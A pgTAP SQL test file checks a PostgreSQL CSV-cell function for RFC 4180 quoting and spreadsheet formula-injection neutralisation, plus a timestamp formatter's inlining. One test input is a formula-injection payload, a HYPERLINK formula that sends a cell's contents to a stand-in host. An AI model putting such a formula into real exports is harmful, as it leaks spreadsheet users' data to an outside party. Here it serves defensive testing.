-- 07_csv_cells.sql: ct_csv, one CSV cell: RFC 4180 quoting, and no cell a
-- spreadsheet would run as a formula (sql/011_csv_cells.sql).
BEGIN;
SELECT plan(19);

-- A formula's first characters: a quote in front, and quoted.
SELECT is(ct_csv('=HYPERLINK("http://x.example/?"&A1,"open")'),
    '"''=HYPERLINK(""http://x.example/?""&A1,""open"")"', '= is neutralized');
SELECT is(ct_csv('+SUM(A1:A9)'), '"''+SUM(A1:A9)"', '+ is neutralized');
SELECT is(ct_csv('-2+3'), '"''-2+3"', '- before a formula is neutralized');
SELECT is(ct_csv('@SUM(A1)'), '"''@SUM(A1)"', '@ is neutralized');
SELECT is(ct_csv(E'\t=1+1'), E'"''\t=1+1"', 'a leading tab is neutralized');
SELECT is(ct_csv(E'\r=1+1'), E'"''\r=1+1"', 'a leading carriage return is neutralized');
SELECT is(ct_csv('-'), '"''-"', 'a lone minus is neutralized');
SELECT is(ct_csv('+1 (415) 555-0100'), '"''+1 (415) 555-0100"',
    'a formatted number is not a number: neutralized');
-- Numbers and phone numbers stay numbers.
SELECT is(ct_csv('+15551234567'), '+15551234567', 'an E.164 phone number stays');
SELECT is(ct_csv('-3.5'), '-3.5', 'a negative number stays');
SELECT is(ct_csv('42'), '42', 'a number stays');
SELECT is(ct_csv('0.0123'), '0.0123', 'a cost stays');
-- The rest as RFC 4180 says.
SELECT is(ct_csv('Doe, "Jim" Jr.'), '"Doe, ""Jim"" Jr."', 'a comma and quotes are quoted');
SELECT is(ct_csv(E'line one\nline two'), E'"line one\nline two"', 'a line break is quoted');
SELECT is(ct_csv('Maria = the caller'), 'Maria = the caller', 'a formula character inside stays');
SELECT is(ct_csv(''), '', 'an empty cell stays empty');
SELECT is(ct_csv(NULL), '', 'NULL is an empty cell');

-- A time as the API writes it (ct_iso), as every row of the export has
-- one: inlined into the statement that calls it.  A SQL function that
-- is not inlined runs as a statement of its own for each row, three
-- times as long (a million rows of the export); PostgreSQL inlines it only
-- when it is declared no less volatile than its body (to_char is STABLE).
CREATE FUNCTION pg_temp.plan_of(p_sql text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    l text;
    r text := '';
BEGIN
    FOR l IN EXECUTE 'EXPLAIN (VERBOSE, COSTS OFF) ' || p_sql LOOP r := r || l || E'\n'; END LOOP;
    RETURN r;
END
$$;
SELECT is(ct_iso('2026-01-02 03:04:05.678+00'), '2026-01-02T03:04:05.678Z', 'a time as the API writes it');
SELECT ok(pg_temp.plan_of('SELECT ct_iso(o.created_at) FROM orgs o') NOT LIKE '%ct_iso%',
          'ct_iso is inlined into the statement that calls it');

SELECT * FROM finish();
ROLLBACK;
